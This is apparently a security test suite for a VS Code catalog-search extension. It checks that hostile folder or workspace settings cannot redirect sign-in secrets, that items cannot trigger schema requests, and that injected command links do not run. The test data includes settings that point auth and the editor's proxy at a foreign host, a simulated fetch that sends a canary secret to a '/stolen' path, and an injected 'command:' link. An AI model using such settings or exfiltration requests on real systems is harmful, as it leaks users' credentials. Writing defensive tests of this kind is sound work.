import { mkdir, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import { findCanaries } from '../support/canaries.js';
import { startCatalogServer, type CatalogServer } from '../support/catalogServer.js';
import type { Desk } from '../support/desk.js';
import type { Person } from '../support/person.js';
import { root } from '../support/setup.mjs';
import { searchAsProposed, signIn, userSettings } from './catalogDesk.js';
import { openTestDesk } from './testDesk.js';

let desk: Desk;
let server: CatalogServer;
/** Where a hostile folder wants everything to go. */
let foreign: CatalogServer;
beforeAll(async () => {
  server = await startCatalogServer({ credentials: { clientId: 'survey-client', clientSecret: 'canary-of-the-folder-42' } });
  foreign = await startCatalogServer({ host: '127.0.0.2', port: Number(new URL(server.origin).port) });
  desk = await openTestDesk({
    settings: {
      ...userSettings(server), 'catalogSearch.pageSize': 5,
      'security.workspace.trust.enabled': true, 'security.workspace.trust.startupPrompt': 'never', 'security.workspace.trust.banner': 'never',
    },
  });
  await mkdir(join(desk.folder, '.vscode'), { recursive: true });
  await writeFile(join(desk.folder, '.vscode', 'settings.json'), JSON.stringify({ 'catalogSearch.environment': 'Production' }));
});
afterAll(async () => {
  await desk.close();
  await server.close();
  await foreign.close();
});

afterEach(() => server.clearFaults());

/** Takes every folder for one that is trusted: in others VS Code itself asks nobody for a schema. */
async function trustFolders(): Promise<void> {
  await desk.server.writeSettings({ ...userSettings(server), 'catalogSearch.pageSize': 5, 'security.workspace.trust.enabled': false });
}

/** All that a folder can write to send secrets elsewhere: our settings in every form, and the editor's own proxy. */
function hostileSettings(): Readonly<Record<string, unknown>> {
  const evil = (name: string): object => ({ name, kind: 'production', baseUrl: foreign.origin, authUrl: foreign.origin, audience: server.production.audience });
  const environments = [evil('Production'), evil('Sandbox'), evil('Evil')];
  return {
    'catalogSearch.environment': 'Production',
    'catalogSearch.environments': environments,
    'catalogSearch.pageSize': 7,
    'catalogSearch.network': 'editor',
    // Older VS Codes take it in place of what is written with dots, the name too.
    'catalogSearch': { environment: 'Production', environments, network: 'editor', pageSize: 7 },
    '[json]': { 'catalogSearch.environments': environments },
    'http.proxy': foreign.origin,
    'http.proxySupport': 'override',
    'http.proxyStrictSSL': false,
  };
}

/** Signs in, searches and looks around; everything goes where the user's own settings say. */
async function useEverything(person: Person): Promise<void> {
  server.clearJournal();
  await person.statusItem.filter({ hasText: /PROD Production\s+signed out/ }).waitFor();
  await signIn(person, server);
  await person.press('Escape');
  await searchAsProposed(person);
  await person.waitForViewMessage(/^5 of/);
  await person.runCommand('Catalog: Load More Items');
  await person.waitForViewMessage(/^10 of/);
  await person.rows().first().click();
  await person.waitForTab(/\.geojson/);
  await person.runCommand('Catalog: Show Footprint');
  await person.waitForDrawing();
  await person.runCommand('Catalog: Switch Environment...');
  await person.waitForStep('Switch Environment');
  const offered = await person.options();
  await person.press('Escape');
  await person.quickInput.waitFor({ state: 'hidden' });
  expect(offered.map((name) => name.split(/[ ,]/)[0])).toEqual(expect.arrayContaining(['Production', 'Sandbox', 'Demo']));
  expect(offered.join()).not.toMatch(/Evil|127\.0\.0\.2/);
  expect(server.journal.map(({ kind, path, status, query }) => [kind, path, status, query.get('limit')])).toEqual([
    ['token', '/oauth/token', 200, null], ['search', '/stac/search', 200, '5'], ['search', '/stac/search', 200, '5'],
  ]);
  expect(foreign.journal).toEqual([]);
  expect(await desk.sweep()).toEqual([]);
  expect(person.complaints).toEqual([]);
  await person.leave();
}

it('S1 S2 S28: lets no folder say where a secret goes, trusted or not, nor a workspace file', async () => {
  const folder = join(desk.folder, 'hostile');
  await mkdir(join(folder, '.vscode'), { recursive: true });
  await writeFile(join(folder, '.vscode', 'settings.json'), JSON.stringify(hostileSettings()));
  const file = join(desk.folder, 'hostile.code-workspace');
  await writeFile(file, JSON.stringify({ folders: [{ path: 'hostile' }], settings: hostileSettings() }));

  const restricted = await desk.sitDown({ folder, pictures: join(root, 'out', 'ui', 'security') });
  await restricted.page.getByText('Restricted Mode').first().waitFor();
  await restricted.takePicture('restricted');
  await useEverything(restricted);

  await trustFolders();
  for (const place of [folder, file]) await useEverything(await desk.sitDown({ folder: place }));
});

// A window for each: the editor goes on showing an item in the language that it had.
it.each([['as it is', 'Q64a'], ['escaped', 'Q64b']])('S16: opens an item that names a schema on this machine, %s, and nothing is asked there', async (_how, fault) => {
  await trustFolders();
  const person = await desk.sitDown({ pictures: join(root, 'out', 'ui', `security-schema-${fault}`) });
  await signIn(person, server);
  await person.press('Escape');
  server.fault(fault);
  server.clearJournal();
  await searchAsProposed(person);
  await person.waitForViewMessage(/^5 of/);
  await person.rows().first().click();
  const tab = await person.waitForTab(/\.geojson/);
  await expect.poll(() => person.visibleText(/\.geojson/)).toContain('beacon.json');
  await person.runCommand('View: Keep Editor');
  // A file of the person's own with such a line is asked for, and it is opened later: what is not asked for until then never is.
  const own = `own-${fault}.json`;
  const asked = (): readonly string[] => server.journal.map(({ path }) => path).filter((path) => /^\/(?:own|beacon)/u.test(path));
  await writeFile(join(desk.folder, own), JSON.stringify({ $schema: `${server.origin}/${own}` }));
  await person.openFile(own);
  await person.waitForTab(own);
  await expect.poll(asked).toContain(`/${own}`);
  expect(asked()).not.toContain('/beacon.json');

  await tab.click();
  await person.page.getByRole('button', { name: /JSON of a Catalog/ }).waitFor();
  await person.press('ControlOrMeta+Shift+O');
  await person.option('assets').waitFor();
  await person.takePicture('outline');
  await person.press('Escape');
  await person.leave();
});

it('S11: makes no link of an asset\'s name in a progress, and runs nothing', async () => {
  const person = await desk.sitDown({ pictures: join(root, 'out', 'ui', 'security-words') });
  await signIn(person, server);
  await person.press('Escape');
  server.fault('Q70a');
  await person.runCommand('Catalog: Search Items...');
  await person.option('Run search').waitFor();
  await person.press('Enter');
  await person.waitForViewMessage(/^5 of/);
  await person.rows().first().click();
  await person.waitForTab(/\.geojson/);
  const release = server.hold('other');
  await person.runCommand('Catalog: Open Asset...');
  await person.pick(/Open/);
  const progress = person.notification(/Opening \[Open\] \(command:test\.canary\)/);
  await progress.waitFor();
  expect(await progress.locator('a[href], a[data-href], .notification-list-item-message a').count()).toBe(0);
  await person.takePicture('progress');
  release();
  await progress.waitFor({ state: 'hidden' });
  await person.leave();
});

it('the sweep finds a canary in each place where one could be, and hears the command', async () => {
  const [secret, typed] = ['planted-canary-4711', 'typed-canary-0815'];
  const person = await desk.sitDown({ pictures: join(root, 'out', 'ui', 'security-sweep') });
  const data = join(desk.server.dataFolder, 'data');
  const plant = async (file: string, text: string | Buffer = `x ${secret}`): Promise<void> => {
    await mkdir(join(data, file, '..'), { recursive: true });
    await writeFile(join(data, file), text);
  };
  await plant('User/globalStorage/catalog-search.catalog-search/auth/a.json');
  await plant('User/workspaceStorage/1/state.json');
  await plant('User/state.vscdb', Buffer.from(secret, 'utf16le'));
  await plant('User/Backups/1/untitled/a');
  await plant('logs/1/exthost/output.log', encodeURIComponent(secret));
  await plant(`User/${secret}.txt`, '');
  await writeFile(join(desk.folder, 'planted.txt'), Buffer.from(secret).toString('base64'));
  await person.page.evaluate(`localStorage.setItem('planted', ${JSON.stringify(secret)}); sessionStorage.setItem('planted', ${JSON.stringify(secret)})`);
  await person.page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(secret)})`);
  await person.page.evaluate(`fetch('${foreign.origin.replace('http:', 'https:')}/stolen?${secret}', { mode: 'no-cors' }).then(() => undefined, () => undefined)`);
  await fetch(`${foreign.origin}/stolen`, { headers: { 'x-canary': secret } });
  // What a person would see: a document that was not saved, and what the editor keeps of it.
  await person.runCommand('File: New Untitled Text File');
  await person.page.keyboard.type(typed);
  await expect.poll(async () => {
    const found = await findCanaries({ secrets: [typed], folders: [data], pages: [person.page] });
    return found.some((place) => place.startsWith('page ')) && found.some((place) => /backup|vscode-/iu.test(place));
  }).toBe(true);
  const sweep = async (): Promise<readonly string[]> => await findCanaries({
    secrets: [secret], folders: [data, desk.folder], pages: [person.page], requests: person.requests, servers: [foreign],
    texts: { output: `x ${secret}`, quiet: 'nothing' },
  });
  const places = [
    /^file User\/globalStorage\/catalog-search/, /^file User\/workspaceStorage/, /^file User\/state\.vscdb/, /^file User\/Backups/, /^file logs/, /^name of User\/planted-canary/,
    /^file planted\.txt/, /^browser localStorage/, /^browser sessionStorage/, /^browser clipboard/, /^request of a window/, /^request to a foreign host/, /^output$/,
  ];
  await expect.poll(async () => {
    const found = await sweep();
    return places.filter((place) => !found.some((one) => place.test(one))).map(String);
  }).toEqual([]);
  expect(await sweep()).not.toContain('quiet');
  const token = await server.issuer.temporaryToken();
  expect(await findCanaries({ secrets: [], texts: { said: `"${token}"`, quiet: 'nothing' } })).toEqual(['said']);

  expect(await desk.sweep()).toEqual([]);
  await person.runCommand('Test: Canary');
  await expect.poll(() => desk.sweep()).toEqual(['the canary command ran 1 times']);
  await rm(join(desk.server.dataFolder, 'canary-runs.txt'));
});
